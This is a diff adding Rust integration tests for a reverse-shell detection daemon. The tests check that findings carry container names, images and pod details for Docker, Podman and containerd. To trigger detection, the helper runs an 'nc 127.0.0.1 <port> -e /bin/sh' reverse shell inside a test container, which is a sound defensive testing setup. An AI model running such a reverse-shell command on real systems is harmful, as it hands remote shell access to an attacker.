@@ -1,0 +1,93 @@
+//! Names and images of containers, as the runtimes have them on disk.
+
+use std::process::{Command, Stdio};
+
+use crate::attack::Identity;
+use crate::common::attacker::Listener;
+use crate::common::daemon::{Daemon, tetherd};
+use crate::common::finding::Finding;
+use crate::common::victim::Victim;
+use crate::cri::{NAMESPACE, Pod};
+use crate::docker::Docker;
+use crate::image::NAME;
+use crate::podman::Podman;
+use crate::{require_containerd, require_docker, require_podman};
+
+/// A finding, and what the command line says of it.
+struct Seen {
+    record: Finding,
+    shown: String,
+}
+
+/// The finding of a reverse shell in a container, by a daemon that has been told where the runtime keeps its files.
+fn found(key: &str, directory: &str, identity: Identity, start: &dyn Fn(&str) -> Command) -> Seen {
+    // The tests' machine may be busy; nothing may be late.
+    let daemon = Daemon::start(&format!("[enrich]\ndigest_wait_ms = 1000\n{key} = [\"{directory}\"]\n"));
+    let attacker = Listener::tcp();
+    let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
+    command.stdin(Stdio::null()).stdout(Stdio::null());
+    let victim = Victim::spawn(command);
+    let session = attacker.accept();
+    let found = daemon.wait_for("the reverse shell", |record| record.peer_port() == Some(attacker.port()));
+    identity.is_in(&found);
+    drop((session, victim));
+    let spool = daemon.place().spool().display().to_string();
+    let output = tetherd(&["show", found.id(), "--spool", &spool]);
+    Seen { shown: String::from_utf8(output.stdout).unwrap(), record: found }
+}
+
+/// Name and image, wherever they have to be.
+fn named(seen: &Seen, name: &str) {
+    let found = &seen.record;
+    let container = &found.0["finding"]["containers"][0];
+    let brief = found.0.to_string();
+    assert_eq!((&container["name"], &container["uri"]), (&name.into(), &NAME.into()), "{brief}");
+    assert_eq!(found.text("Container_Name"), name, "{brief}");
+    assert_eq!(found.text("Container_Image_Uri"), NAME, "{brief}");
+    assert_eq!(found.property("Enrichment_Status")["missing"], serde_json::json!([]), "{brief}");
+    for line in [format!("container {name} {}", &found.text("Container_Id")[..12]), format!("image {NAME}")] {
+        assert!(seen.shown.contains(&line), "{line}: {}", seen.shown);
+    }
+}
+
+#[test]
+fn names_of_docker() {
+    require_docker!();
+    let container = Docker::shared().sleeper();
+    let identity = Identity::new(&container.id, "docker");
+    let root = container.docker.home.text("root");
+    let found = found("docker_directories", &root, identity, &|line| container.exec(line));
+    named(&found, &container.name);
+    let own = &found.record.0["finding"]["containers"][0];
+    assert!(own["imageId"].as_str().unwrap().starts_with("sha256:"), "{own}");
+    assert!(own["createTime"].as_str().unwrap().ends_with('Z'), "{own}");
+}
+
+#[test]
+fn names_of_podman() {
+    require_podman!();
+    let container = Podman::shared().sleeper("runc");
+    let identity = Identity::new(&container.id, "podman");
+    let root = container.podman.home.text("root");
+    let found = found("storage_directories", &root, identity, &|line| container.exec(line));
+    named(&found, &container.name);
+}
+
+#[test]
+fn names_of_pods() {
+    require_containerd!();
+    let pod = Pod::run("sleep 600");
+    let identity = Identity { pod_uid: &pod.uid, ..Identity::new(&pod.id, "containerd") };
+    let state = pod.containerd.home.text("state");
+    let found = found("containerd_directories", &state, identity, &|line| pod.exec(line));
+    named(&found, "app");
+    assert_eq!(
+        (found.record.text("Pod_Name"), found.record.text("Pod_Namespace")),
+        (pod.name.as_str(), NAMESPACE)
+    );
+    let place = format!("{NAMESPACE}/{}", pod.name);
+    assert!(found.shown.contains(&format!("pod {place}")), "{}", found.shown);
+    let own = &found.record.0["finding"]["kubernetes"]["pods"][0];
+    assert_eq!((&own["name"], &own["ns"]), (&pod.name.as_str().into(), &NAMESPACE.into()), "{own}");
+    assert_eq!(own["containers"][0]["name"], "app", "{own}");
+}
